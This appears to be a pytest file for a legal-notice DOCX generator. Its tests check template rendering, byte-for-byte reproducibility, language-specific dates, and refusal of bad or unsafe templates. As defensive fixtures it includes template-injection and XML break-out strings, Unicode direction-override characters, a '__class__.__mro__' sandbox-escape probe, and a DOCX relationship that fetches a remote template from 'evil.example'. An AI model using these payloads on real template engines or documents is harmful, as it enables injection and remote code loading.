"""The letters: built from their sources, filled with anybody's words, replaced by counsel's own template."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from docx import Document

from evidence.errors import EvidenceError, NotAllowed, Unreadable
from evidence.notice.building import build, shipped_source, shipped_template
from evidence.notice.docx_text import read_docx
from evidence.notice.lint_text import split_parts
from evidence.notice.registry import LANGUAGES
from evidence.notice.rendering import fill
from evidence.notice.wording import shown, words
from tests.evidence.notice_making import make_notice_house, make_page, rules, seal_page

HOSTILE = (
    "{{ sender.name }} {% for x in acts %} {{ 7 * 7 }} {# gone #} {_{ x }_}",
    "</w:t></w:r><w:r><w:t>broken & out",
    'He said “stop” (Exhibit 1). The vendor is a criminal. "yes" «no»',
    "\u202eevil\u202c \u2066x\u2069 zero\u200bwidth",
    "बल्क 👩\u200d👩\u200d👧 إرسال 🚀 𝒳",
)


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_shipped_template_is_what_its_source_builds(language: str) -> None:
    assert build(shipped_source(language)) == shipped_template(language)


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_language_has_sixteen_parts_and_passes_its_own_lint(tmp_path: Path, language: str) -> None:
    house = make_notice_house(tmp_path)
    house.pin()
    draft = house.draft(language=language)
    parts = split_parts(read_docx(draft.document, "draft").paragraphs)
    assert set(parts) == set(range(17))
    assert rules(house.lint(draft), "refuse", "final") == set()
    text = " ".join(p.text for p in parts[6])
    assert "“stay 100% anti ban”" in text
    assert f"({words(language).exhibit(1)})" in text


def test_the_same_data_gives_the_same_bytes(tmp_path: Path) -> None:
    template = shipped_template("en")
    house = make_notice_house(tmp_path)
    draft = house.draft()
    from evidence.notice.view import view

    again = fill(template, view(draft.notice.data), "again", f"notice-0001 {draft.notice.draft_sha256}")
    assert again == draft.document


def test_hostile_page_text_is_quoted_and_never_becomes_code_or_markup(tmp_path: Path) -> None:
    house = make_notice_house(tmp_path, name="{{ 7*7 }} </w:t> & “Co”")
    rows = "".join(f"<p>{quote.replace('&', '&amp;').replace('<', '&lt;')}</p>" for quote in HOSTILE)
    page = make_page(
        *(house.office.exhibits, "ex-evil", "http://evil.example/", f"<title>x</title>{rows}"),
        [("anti_ban", quote) for quote in HOSTILE],
    )
    seal_page(house.office.exhibits, page)
    house.cases.add(house.case_id, page.exhibit_id, by="R. Iyer", reason="same")
    house.cases.accept(house.case_id, page.exhibit_id, by="Anita Rao", reason="yes")
    house.pin()
    draft = house.draft()
    text = "\n".join(p.text for p in read_docx(draft.document, "draft").paragraphs)
    for quote in HOSTILE:
        assert f"“{shown(quote)}”" in text
    assert "⟨U+202E⟩evil" in text
    assert "“{{ sender.name }} {% for x in acts %} {{ 7 * 7 }} {# gone #} {_{ x }_}”" in text
    found = rules(house.lint(draft))
    assert found <= {"template-code"}, found  # the vendor's own name in part 2 looks like template code: counsel looks


def _template(*paragraphs: str) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


@pytest.mark.parametrize(
    ("lines", "says"),
    [
        (("Dear {{ recipient_name }}, stop.",), r"no slot 'recipient_name' \(at 'Dear {{ recipient_name }}, stop.'\)"),
        (("{% for act in acts %}{{ act.speed }}{% endfor %}",), r"speed.*at .*act\.speed"),
        (("{%p for act in acts %}", "{{ act.number }}"), "for|endfor|end of template"),
        (("{{ subject | shout }}",), "No filter named 'shout'"),
        (("{% include 'other' %}",), "'include' is not allowed"),
        (("{{ 'x' * 1000000000 }}",), r"'\*' is not allowed"),
        (("{{r subject }}",), "where the document holds no text"),
        (("{{ subject.__class__.__mro__ }}",), "__class__|unsafe"),
    ],
)
def test_a_bad_template_gets_one_sentence_with_slot_and_place(lines: tuple[str, ...], says: str) -> None:
    with pytest.raises(EvidenceError, match=says) as caught:
        fill(_template(*lines), {"subject": "s", "acts": [{"number": "1"}]}, "mine.docx")
    assert str(caught.value).startswith("mine.docx")
    assert "\n" not in str(caught.value)


def test_counsels_own_template_is_used(tmp_path: Path) -> None:
    house = make_notice_house(tmp_path)
    own = tmp_path / "own.docx"
    own.write_bytes(_template("Matter {{ matter }}", "{%p for act in acts %}", "{{ act.url }}", "{%p endfor %}"))
    draft = house.draft(template=own)
    text = [p.text for p in read_docx(draft.document, "draft").paragraphs]
    assert text == ["Matter HL-2026-7", "http://pelican-sender.example/offer?plan=1"]
    assert "part-missing" in rules(house.lint(draft))


def test_what_is_no_template_is_refused() -> None:
    with pytest.raises(Unreadable, match="no DOCX file"):
        fill(b"not a zip", {}, "mine.docx")
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        package.writestr("hello.txt", "x")
    with pytest.raises(Unreadable, match="no Word document"):
        fill(target.getvalue(), {}, "mine.docx")


def test_a_template_that_fetches_or_runs_something_is_refused() -> None:
    good = _template("{{ subject }}")
    for name, data, says in (
        ("word/vbaProject.bin", b"x", "macros"),
        (
            "word/_rels/other.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
            b'TargetMode="External"/></Relationships>',
            "fetches 'http://evil.example/t.dotm'",
        ),
    ):
        target = io.BytesIO(good)
        with zipfile.ZipFile(target, "a") as package:
            package.writestr(name, data)
        with pytest.raises(NotAllowed, match=says):
            fill(target.getvalue(), {"subject": "s"}, "mine.docx")


def test_dates_are_in_the_letters_language() -> None:
    day = date(2026, 12, 8)
    assert [words(language).date(day) for language in LANGUAGES] == [
        "8 December 2026",
        "8 de dezembro de 2026",
        "8 de diciembre de 2026",
        "8 दिसंबर 2026",
    ]
